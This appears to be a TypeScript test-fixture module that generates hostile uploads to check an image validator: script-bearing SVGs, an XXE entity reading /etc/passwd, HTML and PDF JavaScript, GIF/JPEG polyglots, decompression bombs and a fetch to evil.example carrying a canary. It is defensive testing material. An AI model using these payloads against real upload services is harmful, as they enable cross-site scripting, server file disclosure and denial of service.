import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Hidden in every sample file; nothing stored may contain it. */
export const canary = 'CANARY-7f3a91';

const script = `<script>fetch('https://evil.example/${canary}')</script>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert('${canary}')"><script>alert('${canary}')</script><rect width="40" height="40"/></svg>`;

const picture = (width = 64, height = 48) =>
  sharp({
    create: {
      width,
      height,
      channels: 3,
      background: '#446688',
      noise: { type: 'gaussian', mean: 120, sigma: 30 },
    },
  });

/** A small valid picture of each allowed kind. */
export async function validPictures(): Promise<Record<'jpeg' | 'png' | 'webp' | 'gif' | 'avif', Buffer>> {
  return {
    jpeg: await picture().jpeg().toBuffer(),
    png: await picture().png().toBuffer(),
    webp: await picture().webp().toBuffer(),
    gif: await picture().gif().toBuffer(),
    avif: await picture().avif({ effort: 0 }).toBuffer(),
  };
}

/** By kind. All must be refused before decoding. */
export async function unsupportedFiles(): Promise<Record<string, Buffer>> {
  const tiff = await picture().tiff().toBuffer();
  const text = (content: string) => Buffer.from(content);
  const offsetBy = (bytes: Buffer, by: number) => Buffer.concat([Buffer.alloc(by, 0x20), bytes]);
  const { jpeg, png } = await validPictures();
  return {
    'nothing but one byte': text('\0'),
    'an SVG with a script': text(svg),
    'an SVG behind an XML declaration': text(`<?xml version="1.0"?>\n${svg}`),
    'an SVG behind a byte order mark': text(`\ufeff${svg}`),
    'an SVG that includes a file of the server': text(
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    ),
    'a compressed SVG': Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), deflateSync(svg)]),
    'an HTML page': text(`<!doctype html><title>x</title>${script}`),
    'an HTML page that begins like a comment of a GIF': text(`GIF88a=1;/*${script}*/`),
    'a script': text(`alert('${canary}')`),
    'a PDF': text(
      `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert('${canary}'))>>>>endobj`,
    ),
    'a PDF with a picture behind it': Buffer.concat([text(`%PDF-1.4\n%${canary}\n`), jpeg]),
    'a TIFF': tiff,
    'a big-endian TIFF': Buffer.concat([text('MM\0*\0\0\0\x08'), tiff.subarray(8)]),
    'a BMP': Buffer.concat([text('BM'), Buffer.alloc(200)]),
    'an icon': Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), png]),
    'a Photoshop file': Buffer.concat([text('8BPS\0\x01'), Buffer.alloc(200)]),
    'a HEIC': Buffer.concat([
      Buffer.from([0, 0, 0, 24]),
      text('ftypheic\0\0\0\0mif1heic'),
      Buffer.alloc(200),
    ]),
    'an MP4': Buffer.concat([
      Buffer.from([0, 0, 0, 24]),
      text('ftypisom\0\0\0\0isomavc1'),
      Buffer.alloc(200),
    ]),
    'a JPEG XL': Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.alloc(200)]),
    'a JPEG 2000': Buffer.concat([Buffer.from([0, 0, 0, 12]), text('jP  \r\n\x87\n'), Buffer.alloc(200)]),
    'a FITS': text(`SIMPLE  =                    T${' '.repeat(2000)}`),
    'a portable pixmap': text('P6\n4 4\n255\n'.concat('x'.repeat(48))),
    'a Radiance picture': text('#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 2 +X 2\n'),
    'a zip archive': Buffer.concat([text('PK\x03\x04'), Buffer.alloc(200)]),
    'an ELF program': Buffer.concat([text('\x7fELF'), Buffer.alloc(200)]),
    'a shell script': text(`#!/bin/sh\necho ${canary}\n`),
    'a Windows program': Buffer.concat([text('MZ'), Buffer.alloc(200)]),
    'an ImageMagick script': text(`push graphic-context\nfill 'url(https://evil.example/${canary})'\n`),
    'a RIFF that is a sound': Buffer.concat([text('RIFF\0\0\0\0WAVE'), Buffer.alloc(200)]),
    'a picture behind spaces': offsetBy(png, 4),
    'words in UTF-16': Buffer.from(`\ufeff${script}`, 'utf16le'),
  };
}

/** Files that start like a picture but are broken: refused, by the signature check or by the decoder. */
export async function brokenPictures(): Promise<Record<string, Buffer>> {
  const { jpeg, png, webp, gif, avif } = await validPictures();
  const large = await picture(400, 300).jpeg().toBuffer();
  return {
    'only the first bytes of a JPEG': jpeg.subarray(0, 3),
    'only the first bytes of a PNG': png.subarray(0, 8),
    'a JPEG cut in its header': large.subarray(0, 200),
    'a JPEG cut in the middle': large.subarray(0, large.length / 2),
    'a PNG cut in the middle': png.subarray(0, png.length / 2),
    'a WebP cut in the middle': webp.subarray(0, webp.length / 2),
    'a GIF cut in its header': gif.subarray(0, 10),
    'an AVIF cut in the middle': avif.subarray(0, avif.length / 2),
    'a script that begins like a GIF': Buffer.from(`GIF89a/*${' '.repeat(20)}*/=1;alert('${canary}')//`),
    'HTML that begins like a JPEG': Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xfe]),
      Buffer.from(script),
    ]),
    'HTML that begins like a PNG': Buffer.concat([png.subarray(0, 8), Buffer.from(script)]),
    'a PNG with a wrong checksum': corrupt(png, 20),
    'a PNG of no width': pngOf({ width: 0, height: 10 }),
    'a WebP that holds nothing': Buffer.from('RIFF\x04\0\0\0WEBP', 'latin1'),
    'a JPEG within a JPEG header, without end': Buffer.concat(
      Array.from({ length: 50 }, () => jpeg.subarray(0, 2)),
    ),
  };
}

/** Small files that need a lot of memory or time to decode. */
export async function decompressionBombs(): Promise<Record<string, Buffer>> {
  const { gif, webp, jpeg } = await validPictures();
  return {
    'a PNG of 14 000 by 14 000': pngOf({ width: 14_000, height: 14_000 }),
    'a PNG that claims 2 billion pixels a side': pngOf({ width: 2_000_000_000, height: 2_000_000_000 }, 10),
    'a PNG one pixel wide and 41 million high': pngOf({ width: 1, height: 41_000_000 }),
    'a JPEG that claims 65 500 by 65 500': withJpegSize(jpeg, 65_500, 65_500),
    'a GIF that claims 60 000 by 60 000': withGifSize(gif, 60_000, 60_000),
    'a WebP that claims 16 383 by 16 383': withWebpSize(webp, 16_383, 16_383),
  };
}

/** Valid pictures with other content appended: accepted, without that content. */
export async function polyglots(): Promise<Record<string, Buffer>> {
  const { jpeg, png, webp, gif } = await validPictures();
  const zip = Buffer.concat([
    Buffer.from('PK\x03\x04'),
    Buffer.from(canary),
    Buffer.from('PK\x05\x06'),
    Buffer.alloc(18),
  ]);
  return {
    'a JPEG with HTML behind it': Buffer.concat([jpeg, Buffer.from(script)]),
    'a JPEG with an archive behind it': Buffer.concat([jpeg, zip]),
    'a JPEG with a script in a comment': withJpegComment(jpeg, `*/=1;alert('${canary}')/*`),
    'a PNG with HTML behind it': Buffer.concat([png, Buffer.from(script)]),
    'a PNG with a script in a text chunk': withPngText(png, `Comment\0${script}`),
    'a GIF with a script in a comment': withGifComment(gif, `*/=1;alert('${canary}')/*`),
    'a GIF with an archive behind it': Buffer.concat([gif, zip]),
    'a WebP with HTML behind it': Buffer.concat([webp, Buffer.from(script)]),
    'a JPEG with EXIF, XMP and IPTC': await picture()
      .withExif({
        IFD0: { Copyright: canary, ImageDescription: script },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '45/1 30/1 0/1' },
      })
      .withXmp(
        `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:title="${canary}"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`,
      )
      .jpeg()
      .toBuffer(),
  };
}

/** Every unsupported file behind, in front of and in the middle of each kind of picture, and pictures cut anywhere. */
export async function hostileCombinations(): Promise<Record<string, Buffer>> {
  const combined: Record<string, Buffer> = {};
  const carried = { ...(await unsupportedFiles()), 'a script': Buffer.from(script) };
  for (const [kind, valid] of Object.entries(await validPictures())) {
    const middle = Math.floor(valid.length / 2);
    for (const [what, bytes] of Object.entries(carried)) {
      const marked = Buffer.concat([bytes, Buffer.from(script)]);
      combined[`a ${kind} before ${what}`] = Buffer.concat([valid, marked]);
      combined[`a ${kind} behind ${what}`] = Buffer.concat([marked, valid]);
      combined[`a ${kind} around ${what}`] = Buffer.concat([
        valid.subarray(0, middle),
        marked,
        valid.subarray(middle),
      ]);
    }
    for (let part = 1; part <= 10; part += 1) {
      const cut = valid.subarray(0, Math.floor((valid.length * part) / 11));
      combined[`a ${kind} cut at ${part} of 11, then a script`] = Buffer.concat([cut, Buffer.from(script)]);
    }
  }
  return combined;
}

export async function animatedGif(frames: number): Promise<Buffer> {
  const size = 16;
  const pixels = Buffer.alloc(size * size * 3 * frames, 200);
  for (let frame = 0; frame < frames; frame += 1)
    pixels.fill(frame % 251, frame * size * size * 3, frame * size * size * 3 + 30);
  return sharp(pixels, { raw: { width: size, height: size * frames, channels: 3, pageHeight: size } })
    .gif({ delay: Array.from({ length: frames }, () => 40), loop: 0, effort: 1 })
    .toBuffer();
}

function corrupt(bytes: Buffer, at: number): Buffer {
  const changed = Buffer.from(bytes);
  changed[at] = (changed[at] ?? 0) ^ 0xff;
  return changed;
}

// ---- PNG

/** One bit per pixel, all black: 196 million pixels are 24 kB. With fewer `rows` than claimed the file is truncated. */
function pngOf({ width, height }: { width: number; height: number }, rows = height): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1;
  const line = 1 + Math.ceil(Math.min(width, 100_000) / 8);
  const pixels = deflateSync(Buffer.alloc(line * Math.min(rows, 50_000_000)), { level: 1 });
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const chunk = Buffer.alloc(8 + body.length);
  chunk.writeUInt32BE(data.length, 0);
  body.copy(chunk, 4);
  chunk.writeUInt32BE(crc32(body), 4 + body.length);
  return chunk;
}

const withPngText = (png: Buffer, text: string) =>
  // After the signature and the header, which are 33 bytes.
  Buffer.concat([png.subarray(0, 33), pngChunk('tEXt', Buffer.from(text, 'latin1')), png.subarray(33)]);

// ---- JPEG, GIF, WebP

function withJpegComment(jpeg: Buffer, text: string): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe]),
    length,
    Buffer.from(text),
    jpeg.subarray(2),
  ]);
}

function withJpegSize(jpeg: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(jpeg);
  // The frame header (SOF0): marker, length, precision, height, width.
  const at = changed.indexOf(Buffer.from([0xff, 0xc0]));
  changed.writeUInt16BE(height, at + 5);
  changed.writeUInt16BE(width, at + 7);
  return changed;
}

function withGifComment(gif: Buffer, text: string): Buffer {
  const comment = Buffer.concat([
    Buffer.from([0x21, 0xfe, text.length]),
    Buffer.from(text, 'latin1'),
    Buffer.from([0]),
  ]);
  // Before the trailer, the last byte.
  return Buffer.concat([gif.subarray(0, -1), comment, gif.subarray(-1)]);
}

function withGifSize(gif: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(gif);
  // In the screen descriptor and in the frame: its separator is followed by left, top, width and height.
  const frame = changed.indexOf(Buffer.from([0x2c, 0, 0, 0, 0]));
  for (const at of [6, frame + 5]) {
    changed.writeUInt16LE(width, at);
    changed.writeUInt16LE(height, at + 2);
  }
  return changed;
}

function withWebpSize(webp: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(webp);
  // The lossy frame: start code 9d 01 2a, then width and height.
  const at = changed.indexOf(Buffer.from([0x9d, 0x01, 0x2a]));
  changed.writeUInt16LE(width, at + 3);
  changed.writeUInt16LE(height, at + 5);
  return changed;
}
